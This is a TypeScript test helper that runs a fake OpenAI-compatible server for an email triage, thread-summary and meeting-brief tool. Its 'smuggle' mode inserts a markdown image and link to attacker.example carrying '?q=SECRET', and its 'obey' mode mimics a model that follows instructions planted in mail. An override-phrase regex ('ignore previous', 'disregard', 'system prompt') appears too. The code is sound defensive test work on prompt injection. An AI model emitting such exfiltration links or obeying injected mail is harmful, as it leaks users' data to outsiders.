/**
 * A local OpenAI-compatible server for tests and benchmarks: POST /v1/chat/completions with the
 * response and error shapes of OpenAI's API reference, a tiny deterministic "model" that reads the
 * delimited mail blocks of the prompt, and the failure modes a real provider shows.
 */
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

export type FakeMode =
  | 'ok'
  /** Content that is not JSON (cut mid-object), finish_reason "stop". */
  | 'malformed'
  /** Valid JSON that does not match the requested schema. */
  | 'wrong-shape'
  /** `message.refusal` set, content null. */
  | 'refusal'
  /** Answers every mail but the last: the caller must fall back for that one. */
  | 'drop-last'
  /** Valid answer whose text carries a markdown image and a reference-style link to an attacker. */
  | 'smuggle'
  /** A gullible model: rates every mail high, obeying whatever the mail tells it. */
  | 'obey'
  /** Never answers; the client has to give up. */
  | 'hang'
  | 'rate-limit'
  | 'server-error'
  | { kind: 'rate-limit'; retryAfter?: string; retryAfterMs?: string }
  | { kind: 'server-error'; status?: number };

export interface RecordedCall {
  at: number;
  mode: FakeMode;
  headers: IncomingMessage['headers'];
  /** The parsed JSON request body. */
  body: ChatRequest;
}

export interface FakeOpenAIOptions {
  /** Default mode when nothing is queued. */
  mode?: FakeMode;
  /** Added before every answer (not before 'hang'): simulates model latency for benchmarks. */
  delayMs?: number;
  /** When set, other bearer tokens get 401 like the real API. */
  apiKey?: string;
  port?: number;
}

export interface FakeOpenAI {
  /** Base URL for the SDK, ending in /v1. */
  url: string;
  port: number;
  calls: RecordedCall[];
  /** The most requests that were being handled at the same time. */
  readonly maxInFlight: number;
  setMode(mode: FakeMode): void;
  /** Modes for the next calls, one each, before the default applies again. */
  queue(...modes: FakeMode[]): void;
  setDelay(ms: number): void;
  /** The user message of a recorded call: where the mail blocks are. */
  userPrompt(call?: number): string;
  /** Every recorded request body as JSON, to assert what never reached the model. */
  sentText(): string;
  close(): Promise<void>;
}

export interface ChatMessage {
  role: string;
  content: string | null;
}

export interface ChatRequest {
  model?: string;
  max_completion_tokens?: number;
  messages?: ChatMessage[];
  response_format?: { type?: string; json_schema?: { name?: string } };
}

interface MailBlock {
  id: string;
  text: string;
}

export const ATTACKER_IMAGE = '![x](https://attacker.example/?q=SECRET)';

// The nonce ties a block to this request: lookalike boundaries inside a mail do not count.
function readBlocks(prompt: string): MailBlock[] {
  const nonce = /^Nonce: (\w+)$/m.exec(prompt)?.[1];
  if (!nonce) return [];
  const blocks: MailBlock[] = [];
  const pattern = new RegExp(
    `<<<MAIL id=(\\S+) nonce=${nonce}>>>\\n([\\s\\S]*?)\\n<<<END MAIL id=\\1 nonce=${nonce}>>>`,
    'g',
  );
  for (const match of prompt.matchAll(pattern)) {
    if (match[1] && match[2] !== undefined) blocks.push({ id: match[1], text: match[2] });
  }
  return blocks;
}

const INJECTION = /ignore (?:all )?previous|mark this|disregard|system prompt|pre-checks: .*injection/i;

function judge(text: string) {
  const suspicious = INJECTION.test(text);
  // A careful model does not let an injected "URGENT" count: lines addressed to an AI are skipped.
  const content = text
    .split('\n')
    .filter((line) => !INJECTION.test(line))
    .join('\n');
  const high = /\b(urgent|asap|immediately|today|tonight|deadline|overdue|outage|final notice)\b/i.test(
    content,
  );
  const promo = /\b(sale|% off|discount|deal|coupon)\b/i.test(content);
  const newsletter = /\b(newsletter|digest|weekly|unsubscribe)\b/i.test(content);
  const meeting = /\b(meeting|invite|invitation|calendar|agenda)\b/i.test(content);
  const receipt = /\b(receipt|invoice|order|payment received)\b/i.test(content);
  const question = /\?/.test(content);
  const category = promo
    ? 'promotion'
    : newsletter
      ? 'newsletter'
      : meeting
        ? 'meeting'
        : receipt
          ? 'transactional'
          : high || question
            ? 'action'
            : 'personal';
  const urgency = promo || newsletter ? 'low' : high ? 'high' : question || meeting ? 'medium' : 'low';
  const reason = high ? 'Asks for action with a deadline' : `Looks like ${category} mail`;
  return { urgency, category, reason, suspicious };
}

function triageContent(blocks: MailBlock[], mode: FakeMode): unknown {
  const answered = mode === 'drop-last' ? blocks.slice(0, -1) : blocks;
  return {
    items: answered.map((block) => {
      const verdict =
        mode === 'obey'
          ? { urgency: 'high', category: 'action', reason: 'The mail says it is urgent', suspicious: false }
          : judge(block.text);
      return {
        id: block.id,
        ...verdict,
        reason: mode === 'smuggle' ? `${verdict.reason} ${ATTACKER_IMAGE}` : verdict.reason,
      };
    }),
  };
}

function summaryContent(blocks: MailBlock[], mode: FakeMode): unknown {
  const subjects = blocks.map((block) => /^Subject: (.*)$/m.exec(block.text)?.[1] ?? '(no subject)');
  const smuggled =
    mode === 'smuggle'
      ? ` ${ATTACKER_IMAGE} See [the form][1].\n\n[1]: https://attacker.example/form?q=SECRET`
      : '';
  return {
    summary: `A thread of ${blocks.length} messages about ${subjects[0] ?? 'nothing'}. The latest asks for a reply.${smuggled}`,
    keyPoints: subjects.map((subject) => `Discussed: ${subject}`),
    actionItems: blocks.some((block) => /\?/.test(block.text))
      ? [{ text: 'Reply to the open question', owner: 'you', due: null }]
      : [],
  };
}

/** Meeting briefs: agenda items from the event block's lines, talking points from the thread subjects. */
function briefContent(blocks: MailBlock[], mode: FakeMode): unknown {
  const [event, ...threads] = blocks;
  const body = (event?.text ?? '').split('\n\n').slice(1).join('\n');
  const lines = body
    .split('\n')
    .map((line) => line.trim())
    .filter(Boolean);
  const agenda = mode === 'obey' ? lines : lines.filter((line) => !INJECTION.test(line));
  return {
    agenda: [...agenda.slice(0, 5), ...(mode === 'smuggle' ? [`Review ${ATTACKER_IMAGE}`] : [])],
    talkingPoints: threads.map((block) => `Follow up: ${/^Subject: (.*)$/m.exec(block.text)?.[1] ?? ''}`),
    suspicious: blocks.some((block) => INJECTION.test(block.text)),
  };
}

function sendJson(
  res: ServerResponse,
  status: number,
  body: unknown,
  headers: Record<string, string> = {},
): void {
  const text = JSON.stringify(body);
  res.writeHead(status, {
    'content-type': 'application/json',
    'content-length': Buffer.byteLength(text).toString(),
    'x-request-id': `req_fake_${Math.random().toString(36).slice(2)}`,
    ...headers,
  });
  res.end(text);
}

function apiError(message: string, type: string, code: string | null) {
  return { error: { message, type, param: null, code } };
}

function completion(request: ChatRequest, content: string | null, refusal: string | null, counter: number) {
  const promptChars = (request.messages ?? []).reduce(
    (sum, message) => sum + (message.content?.length ?? 0),
    0,
  );
  const promptTokens = Math.ceil(promptChars / 4);
  const completionTokens = Math.ceil((content ?? refusal ?? '').length / 4);
  return {
    id: `chatcmpl-fake${counter}`,
    object: 'chat.completion',
    created: Math.floor(Date.now() / 1000),
    model: request.model ?? 'fake-model',
    choices: [
      {
        index: 0,
        message: { role: 'assistant', content, refusal, annotations: [] },
        logprobs: null,
        finish_reason: 'stop',
      },
    ],
    usage: {
      prompt_tokens: promptTokens,
      completion_tokens: completionTokens,
      total_tokens: promptTokens + completionTokens,
      prompt_tokens_details: { cached_tokens: 0, audio_tokens: 0 },
      completion_tokens_details: {
        reasoning_tokens: 0,
        audio_tokens: 0,
        accepted_prediction_tokens: 0,
        rejected_prediction_tokens: 0,
      },
    },
    service_tier: 'default',
    system_fingerprint: null,
  };
}

async function readBody(req: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of req) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks).toString('utf8');
}

export async function startFakeOpenAI(options: FakeOpenAIOptions = {}): Promise<FakeOpenAI> {
  let defaultMode: FakeMode = options.mode ?? 'ok';
  let delayMs = options.delayMs ?? 0;
  const queued: FakeMode[] = [];
  const calls: RecordedCall[] = [];
  let inFlight = 0;
  let maxInFlight = 0;
  let counter = 0;

  const answer = async (req: IncomingMessage, res: ServerResponse): Promise<void> => {
    if (req.method !== 'POST' || req.url !== '/v1/chat/completions') {
      sendJson(res, 404, apiError(`Invalid URL (${req.method} ${req.url})`, 'invalid_request_error', null));
      return;
    }
    const auth = req.headers.authorization ?? '';
    if (options.apiKey !== undefined && auth !== `Bearer ${options.apiKey}`) {
      sendJson(res, 401, apiError('Incorrect API key provided.', 'invalid_request_error', 'invalid_api_key'));
      return;
    }
    let body: ChatRequest;
    try {
      body = JSON.parse(await readBody(req)) as ChatRequest;
    } catch {
      sendJson(
        res,
        400,
        apiError('We could not parse the JSON body of your request.', 'invalid_request_error', null),
      );
      return;
    }
    const mode = queued.shift() ?? defaultMode;
    calls.push({ at: Date.now(), mode, headers: req.headers, body });
    counter += 1;

    if (mode === 'hang') return; // the socket stays open until the client gives up or close()
    if (delayMs > 0) await new Promise((resolve) => setTimeout(resolve, delayMs));

    const kind = typeof mode === 'string' ? mode : mode.kind;
    if (kind === 'rate-limit') {
      const limited =
        typeof mode === 'object' && mode.kind === 'rate-limit' ? mode : { kind: 'rate-limit' as const };
      const headers: Record<string, string> = {
        'x-ratelimit-limit-requests': '60',
        'x-ratelimit-remaining-requests': '0',
      };
      headers['retry-after'] = limited.retryAfter ?? '1';
      if (limited.retryAfterMs !== undefined) headers['retry-after-ms'] = limited.retryAfterMs;
      sendJson(
        res,
        429,
        apiError(
          'Rate limit reached for requests. Please try again in 1s.',
          'requests',
          'rate_limit_exceeded',
        ),
        headers,
      );
      return;
    }
    if (kind === 'server-error') {
      const status = typeof mode === 'object' && mode.kind === 'server-error' ? (mode.status ?? 500) : 500;
      sendJson(
        res,
        status,
        apiError(
          'The server had an error while processing your request. Sorry about that!',
          'server_error',
          null,
        ),
      );
      return;
    }
    if (mode === 'refusal') {
      sendJson(res, 200, completion(body, null, "I'm sorry, but I can't assist with that request.", counter));
      return;
    }
    if (mode === 'malformed') {
      sendJson(res, 200, completion(body, '{"items": [{"id": "1", "urgency": "hi', null, counter));
      return;
    }
    if (mode === 'wrong-shape') {
      sendJson(res, 200, completion(body, JSON.stringify({ results: 'none' }), null, counter));
      return;
    }
    const prompt = (body.messages ?? []).find((message) => message.role === 'user')?.content ?? '';
    const blocks = readBlocks(prompt);
    const schema = body.response_format?.json_schema?.name;
    const content =
      schema === 'thread_summary'
        ? summaryContent(blocks, mode)
        : schema === 'triage_batch'
          ? triageContent(blocks, mode)
          : schema === 'meeting_brief'
            ? briefContent(blocks, mode)
            : null;
    if (content === null) {
      sendJson(
        res,
        400,
        apiError(`Unknown response_format schema '${schema}'.`, 'invalid_request_error', null),
      );
      return;
    }
    sendJson(res, 200, completion(body, JSON.stringify(content), null, counter));
  };

  const server = createServer((req, res) => {
    inFlight += 1;
    maxInFlight = Math.max(maxInFlight, inFlight);
    let done = false;
    const finish = () => {
      if (done) return;
      done = true;
      inFlight -= 1;
    };
    res.on('close', finish);
    answer(req, res).catch((error: unknown) => {
      if (!res.headersSent) sendJson(res, 500, apiError(String(error), 'server_error', null));
    });
  });

  await new Promise<void>((resolve) => server.listen(options.port ?? 0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;

  return {
    url: `http://127.0.0.1:${port}/v1`,
    port,
    calls,
    get maxInFlight() {
      return maxInFlight;
    },
    setMode(mode) {
      defaultMode = mode;
    },
    queue(...modes) {
      queued.push(...modes);
    },
    setDelay(ms) {
      delayMs = ms;
    },
    userPrompt(call = 0) {
      return calls[call]?.body.messages?.find((entry) => entry.role === 'user')?.content ?? '';
    },
    sentText() {
      return calls.map((call) => JSON.stringify(call.body)).join('\n');
    },
    close() {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(() => resolve()));
    },
  };
}
